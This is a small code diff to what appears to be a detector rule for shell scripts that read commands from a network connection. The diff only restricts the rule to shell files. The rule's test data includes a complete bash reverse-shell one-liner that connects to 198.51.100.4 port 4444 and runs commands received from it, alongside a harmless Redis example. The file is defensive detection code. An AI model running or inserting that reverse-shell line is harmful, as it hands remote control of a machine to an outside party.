@@ -107,6 +107,7 @@ _TIED = re.compile(
     "danger",
     flags={"scripts/a.sh": "exec 5<>/dev/tcp/198.51.100.4/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n"},
     clears={"scripts/a.sh": "exec 5<>/dev/tcp/127.0.0.1/6379\nprintf 'PING\\r\\n' >&5\n"},
+    languages=("shell",),
 )
 def shell_from_connection(text: Text, plugin: Plugin) -> Iterator[Seen]:
     """Shell text that reads commands from a connection, or sends a shell's input and output through one.
